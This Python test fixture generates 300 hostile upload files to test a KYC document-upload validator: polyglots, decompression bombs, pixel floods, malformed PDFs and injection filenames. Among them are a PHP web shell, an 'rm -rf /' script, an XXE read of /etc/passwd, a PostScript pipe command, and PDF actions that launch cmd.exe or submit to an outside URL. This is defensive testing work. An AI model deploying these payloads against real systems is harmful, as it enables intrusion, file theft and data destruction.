"""Files as an attacker would send them: three hundred, made by a seeded generator, each with what may become of it."""

from __future__ import annotations

import gzip
import io
import random
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from PIL import Image

from accounts.kyc.rendering import TEST_VIRUS

SCRIPT = b"<script>alert(document.cookie)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PLACE = b"GPSLatitude 52.5163 Brandenburg"
NAMES = [
    "passport.jpg",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow\x00.png",
    "gpj.exe\u202e.jpg",
    "<img src=x onerror=alert(1)>.png",
    "a" * 400 + ".pdf",
    "",
    "…/…/\r\nSet-Cookie: x=1.jpg",
    "id.php.png",
    "CON",
    "'; DROP TABLE accounts_kycdocument; --.pdf",
]


@dataclass(frozen=True)
class Hostile:
    """`may_pass`: what is left after decoding would be harmless, so that taking it is no mistake."""

    label: str
    name: str
    content: bytes
    may_pass: bool


def picture(random_: random.Random, width: int = 320, height: int = 200, mode: str = "RGB") -> Image.Image:
    small = Image.frombytes("L", (16, 12), random_.randbytes(192))
    return small.resize((width, height), Image.Resampling.BICUBIC).convert(mode)


def saved(image: Image.Image, kind: str, **options: object) -> bytes:
    written = io.BytesIO()
    image.save(written, kind, **options)
    return written.getvalue()


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack("!I", len(body)) + kind + body + struct.pack("!I", zlib.crc32(kind + body))


def png_header(width: int, height: int, depth: int = 8, colour: int = 2) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, depth, colour, 0, 0, 0))


def png_flood(width: int, height: int, depth: int = 8, colour: int = 2) -> bytes:
    rows = zlib.compress(bytes(8_000_000), 9)
    return png_header(width, height, depth, colour) + png_chunk(b"IDAT", rows) + png_chunk(b"IEND", b"")


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, 1 being its catalogue."""
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return (
        body
        + b"xref\n0 %d\n0000000000 65535 f \n" % size
        + table
        + b"trailer\n<< /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, len(body))
    )


def stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), extra, content)


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def one_page(content: bytes = b"0 0 1 rg 20 20 100 100 re f", catalogue: bytes = b"", page: bytes = b"") -> bytes:
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalogue,
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R %b >>" % page,
        stream(content),
    )


# --- Families ---------------------------------------------------------------------------------------


def _not_what_it_is_called(r: random.Random) -> Iterator[tuple[str, bytes, bool]]:
    zipped = b"PK\x03\x04" + r.randbytes(400)
    for label, content in (
        ("HTML as .jpg", HTML),
        ("SVG with a script", SVG),
        ("XML", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
        ("script", b"#!/bin/sh\nrm -rf /\n"),
        ("program", b"\x7fELF" + r.randbytes(500)),
        ("Windows program", b"MZ" + r.randbytes(500)),
        ("zip", zipped),
        ("PHP", b"<?php system($_GET['c']); ?>"),
        ("GIF with script", b"GIF89a/*" + r.randbytes(20) + b"*/=1;alert(1)"),
        ("WebP", b"RIFF\x00\x00\x00\x00WEBPVP8 " + r.randbytes(60)),
        ("TIFF", b"II*\x00" + r.randbytes(60)),
        ("BMP", b"BM" + r.randbytes(100)),
        ("PostScript", b"%!PS-Adobe-3.0\n(%pipe%id) (r) file"),
        ("ImageMagick's own", b"push graphic-context\nimage over 0,0 0,0 'https://x/'\n"),
        ("FITS", b"SIMPLE  =                    T" + b" " * 60),
        ("nothing", b""),
        ("one NUL", b"\0"),
        ("NULs", bytes(5000)),
        ("HTML before a PDF", HTML + one_page()),
        ("HTML before a JPEG", HTML + saved(picture(r), "JPEG")),
        ("blank before a PDF", b"\n\n" + one_page()),
        ("gzip bomb", gzip.compress(bytes(20_000_000))),
        ("test virus", TEST_VIRUS),
        ("test virus inside a PDF", one_page(TEST_VIRUS)),
        ("test virus behind a JPEG", saved(picture(r), "JPEG") + TEST_VIRUS),
        ("too large", saved(picture(r), "JPEG") + bytes(10 * 1024 * 1024)),
    ):
        yield label, content, False


def _polyglots(r: random.Random) -> Iterator[tuple[str, bytes, bool]]:
    jpeg, png = saved(picture(r), "JPEG"), saved(picture(r), "PNG")
    comment = b"\xff\xfe" + struct.pack("!H", len(SCRIPT) + 2) + SCRIPT
    yield "JPEG with a script in its comment", jpeg[:2] + comment + jpeg[2:], True
    yield "JPEG with HTML behind it", jpeg + HTML, True
    yield "JPEG with a zip behind it", jpeg + b"PK\x03\x04" + r.randbytes(300), True
    yield "JPEG with a PDF behind it", jpeg + one_page(), True
    yield "PNG with HTML behind it", png + HTML, True
    yield "PNG with a script as text", png[:33] + png_chunk(b"tEXt", b"Comment\0" + SCRIPT) + png[33:], True
    yield (
        "PNG with a compressed script",
        png[:33] + png_chunk(b"zTXt", b"x\0\0" + zlib.compress(SCRIPT)) + png[33:],
        True,
    )
    yield "PDF with HTML behind it", one_page() + HTML, True
    yield "PDF with HTML in its second line", one_page().replace(b"\n", b"\n%" + HTML + b"\n", 1), True
    yield "JPEG that begins as JavaScript", b"\xff\xd8\xff\xe0/*" + jpeg[6:] + b"*/=alert(1)", True


def _exif(r: random.Random) -> Iterator[tuple[str, bytes, bool]]:
    for orientation in (1, 3, 6, 8, 77):
        exif = Image.Exif()
        exif[0x0112], exif[0x010E] = orientation, PLACE.decode()
        exif[0x013B] = SCRIPT.decode()
        yield f"EXIF with a place, orientation {orientation}", saved(picture(r), "JPEG", exif=exif), True
        yield f"PNG with EXIF, orientation {orientation}", saved(picture(r), "PNG", exif=exif), True
    broken = b"Exif\0\0" + r.randbytes(300)
    yield "nonsense as EXIF", saved(picture(r), "JPEG", exif=broken), True
    yield "colour profile of nonsense", saved(picture(r), "JPEG", icc_profile=PLACE * 20), True
    loop = b"Exif\0\0II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0"
    yield "EXIF that points at itself", saved(picture(r), "JPEG", exif=loop), True


def _floods(r: random.Random) -> Iterator[tuple[str, bytes, bool]]:
    for width, height in ((50_000, 50_000), (65_535, 65_535), (2**31 - 1, 2**31 - 1), (1, 2**31 - 1), (20_000, 9_000)):
        yield f"PNG of {width} × {height}, header alone", png_header(width, height), False
        yield f"PNG of {width} × {height} with data", png_flood(width, height), False
    yield "PNG of 12,000 × 12,000 in grey", png_flood(12_000, 12_000, 8, 0), False
    yield "PNG of 6,000 × 4,000 with 16 bits and alpha", png_flood(6_000, 4_000, 16, 6), True
    yield "PNG of 24 million pixels of one bit", png_flood(6_000, 4_000, 1, 0), True
    jpeg = saved(picture(r), "JPEG")
    start = jpeg.index(b"\xff\xc0")
    for size in ((65_500, 65_500), (50_000, 50_000), (8_000, 7_900)):
        huge = jpeg[: start + 5] + struct.pack("!HH", *size) + jpeg[start + 9 :]
        yield f"JPEG that says {size[0]} × {size[1]}", huge, True
    text = png_header(32, 32) + png_chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(60_000_000), 9))
    yield (
        "PNG with a bomb as text",
        text + png_chunk(b"IDAT", zlib.compress(bytes(97 * 32))) + png_chunk(b"IEND", b""),
        True,
    )
    profile = png_header(32, 32) + png_chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(60_000_000), 9))
    yield "PNG with a bomb as profile", profile + png_chunk(b"IDAT", zlib.compress(bytes(97 * 32))), True
    yield "PNG of 60,000 empty chunks", png_header(64, 64) + png_chunk(b"tEXt", b"a\0b") * 60_000, True
    scans = saved(picture(r, 2_000, 2_000), "JPEG", progressive=True)
    scan = scans[scans.rindex(b"\xff\xda") : -2]
    yield "JPEG of 3,000 scans", scans[:-2] + scan[:1_000] * 3_000 + b"\xff\xd9", True


def _damaged(r: random.Random) -> Iterator[tuple[str, bytes, bool]]:
    for kind in ("JPEG", "PNG"):
        whole = saved(picture(r, 640, 400), kind)
        for part in (0.02, 0.1, 0.3, 0.5, 0.7, 0.9, 0.99):
            yield f"{kind} cut at {part:.0%}", whole[: int(len(whole) * part)], True
        for seed in range(25):
            noisy = bytearray(whole)
            for _ in range(12):
                noisy[r.randrange(4, len(noisy))] = r.randrange(256)
            yield f"{kind} with noise {seed}", bytes(noisy), True
    whole = one_page()
    for part in (0.05, 0.3, 0.6, 0.9):
        yield f"PDF cut at {part:.0%}", whole[: int(len(whole) * part)], True
    for seed in range(40):
        noisy = bytearray(whole)
        for _ in range(10):
            noisy[r.randrange(8, len(noisy))] = r.randrange(256)
        yield f"PDF with noise {seed}", bytes(noisy), True
    for length in (3, 4, 5, 8, 9, 20):
        yield f"signature and {length} random bytes", b"\xff\xd8\xff" + r.randbytes(length), True
        yield f"%PDF and {length} random bytes", b"%PDF-" + r.randbytes(length), True
        yield f"PNG signature and {length} random bytes", b"\x89PNG\r\n\x1a\n" + r.randbytes(length), True


def _pdfs(r: random.Random) -> Iterator[tuple[str, bytes, bool]]:
    script = b"/S /JavaScript /JS (app.alert('x'); this.submitForm('https://x.example/');)"
    yield "PDF that opens with JavaScript", one_page(catalogue=b"/OpenAction << %b >>" % script), True
    yield "PDF with a script on its page", one_page(page=b"/AA << /O << %b >> >>" % script), True
    yield "PDF that launches a program", one_page(catalogue=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), True
    yield "PDF that asks a server", one_page(catalogue=b"/OpenAction << /S /URI /URI (http://127.0.0.1:9/) >>"), True
    yield (
        "PDF with a file inside",
        one_page(catalogue=b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>"),
        True,
    )
    yield "PDF with XFA", one_page(catalogue=b"/AcroForm << /XFA 4 0 R >>"), True
    for count in (100_000, 2_000_000_000, -1, 0):
        yield (
            f"PDF that says {count} pages",
            pdf(b"<< /Type /Catalog /Pages 2 0 R >>", PAGES.replace(b"/Count 1", b"/Count %d" % count)),
            True,
        )
    pages = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>"
    for count in (13, 400, 20_000):
        kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
        whole = b"<< /Type /Pages /Count %d /Kids [%b] >>" % (count, kids)
        yield f"PDF of {count} pages", pdf(b"<< /Type /Catalog /Pages 2 0 R >>", whole, *[pages] * count), False
    repeated = b"<< /Type /Pages /Count 500000 /Kids [%b] >>" % (b"3 0 R " * 500_000)
    yield "PDF of one page 500,000 times", pdf(b"<< /Type /Catalog /Pages 2 0 R >>", repeated, pages), False
    yield (
        "PDF whose pages are their own parents",
        pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 5 /Kids [2 0 R 2 0 R] >>"),
        True,
    )
    yield "PDF of brackets 200,000 deep", one_page(catalogue=b"/X " + b"[" * 200_000), True
    yield "PDF of dictionaries 100,000 deep", one_page(catalogue=b"/X " + b"<</A " * 100_000), True
    yield "PDF whose tables go round", one_page().replace(b"/Root", b"/Prev 9 /Root"), True
    yield "PDF whose tables point at themselves", _looping_tables(), True
    yield "PDF with an object of ten million", one_page().replace(b"0 5\n", b"0 10000000\n"), True
    for factor in (1, 3):
        bomb = zlib.compress(bytes(100_000_000 * factor), 9)
        yield f"PDF with {100 * factor} MB of nothing drawn", _drawn(bomb, b"/Filter /FlateDecode"), True
        twice = zlib.compress(bomb, 9)
        yield f"PDF with {100 * factor} MB packed twice", _drawn(twice, b"/Filter [/FlateDecode /FlateDecode]"), True
    for side in (20_000, 60_000):
        yield f"PDF with a picture of {side} × {side}", _with_picture(side), True
    heavy = b"".join(b"%d %d m %d %d l S " % tuple(r.randrange(300) for _ in range(4)) for _ in range(150_000))
    yield "PDF of 150,000 lines", one_page(heavy), True
    yield "PDF that nests 100,000 states", one_page(b"q " * 100_000 + b"0 0 9 9 re f"), True
    yield "PDF that draws itself", _drawing_itself(), True
    yield "PDF with a pattern of a million tiles", _tiled(), True
    for box in (
        b"[0 0 0 0]",
        b"[0 0 1e9 1e9]",
        b"[0 0 1 14400]",
        b"[-1e30 0 1e30 1]",
        b"[0 0 nan 5]",
        b"[300 200 0 0]",
    ):
        yield f"PDF with a page of {box.decode()}", one_page().replace(b"[0 0 300 200]", box), True
    yield (
        "PDF locked with a password",
        one_page().replace(
            b"/Root",
            b"/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O (%b) /U (%b) >> /Root"
            % (b"o" * 32, b"u" * 32),
        ),
        True,
    )


def _looping_tables() -> bytes:
    whole = one_page()
    place = whole.rindex(b"xref\n0")
    return whole.replace(b"/Root", b"/Prev %d /Root" % place)


def _drawn(content: bytes, filters: bytes) -> bytes:
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R >>",
        stream(content, filters),
    )


def _with_picture(side: int) -> bytes:
    pixels = zlib.compress(bytes(30_000_000), 9)
    words = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB /BitsPerComponent 8" % (
        side,
        side,
    )
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R "
        b"/Resources << /XObject << /I 5 0 R >> >> >>",
        stream(b"300 0 0 200 0 0 cm /I Do"),
        stream(pixels, words + b" /Filter /FlateDecode"),
    )


def _drawing_itself() -> bytes:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 300 200] /Resources << /XObject << /F 5 0 R >> >>"
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R "
        b"/Resources << /XObject << /F 5 0 R >> >> >>",
        stream(b"/F Do"),
        stream(b"/F Do " * 1000, form),
    )


def _tiled() -> bytes:
    words = b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001"
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R "
        b"/Resources << /Pattern << /P 5 0 R >> >> >>",
        stream(b"/Pattern cs /P scn 0 0 300 200 re f"),
        stream(b"1 0 0 rg 0 0 1 1 re f", words + b" /Resources << >>"),
    )


FAMILIES: list[Callable[[random.Random], Iterator[tuple[str, bytes, bool]]]] = [
    _not_what_it_is_called,
    _polyglots,
    _exif,
    _floods,
    _damaged,
    _pdfs,
]


def files(seed: int = 20) -> list[Hostile]:
    """Each made once, under a name that is hostile as well; as many as the families have, then noisy ones to 300."""
    r = random.Random(seed)
    made = [each for family in FAMILIES for each in family(r)]
    while len(made) < 300:
        noisy = bytearray(saved(picture(r), r.choice(["JPEG", "PNG"])))
        for _ in range(r.randrange(1, 60)):
            noisy[r.randrange(8, len(noisy))] = r.randrange(256)
        made.append((f"noise {len(made)}", bytes(noisy), True))
    return [
        Hostile(label, NAMES[number % len(NAMES)], content, may_pass)
        for number, (label, content, may_pass) in enumerate(made)
    ]
